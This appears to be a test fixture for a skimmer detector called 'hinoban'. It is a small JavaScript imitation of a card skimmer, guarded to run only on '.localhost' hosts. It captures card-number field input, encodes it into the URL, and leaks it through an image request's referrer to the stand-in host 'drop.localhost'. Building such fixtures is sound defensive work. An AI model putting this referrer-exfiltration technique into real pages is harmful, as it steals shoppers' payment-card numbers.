/* Harmless imitation, for hinoban's tests: in the referrer of a picture. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	function mix(v) { return v.split('').map(function (c, i) { return 'hjkmnpqrst'[(+c + i) % 10]; }).join(''); }
	document.addEventListener('change', function (e) {
		if (e.target.autocomplete !== 'cc-number') return;
		var was = location.href, i = new Image();
		history.replaceState(null, '', '?r=' + mix(e.target.value));
		i.referrerPolicy = 'unsafe-url';
		i.src = 'http://drop.localhost:' + location.port + '/p.gif';
		document.body.appendChild(i);
		setTimeout(function () { history.replaceState(null, '', was); }, 200);
	});
})();
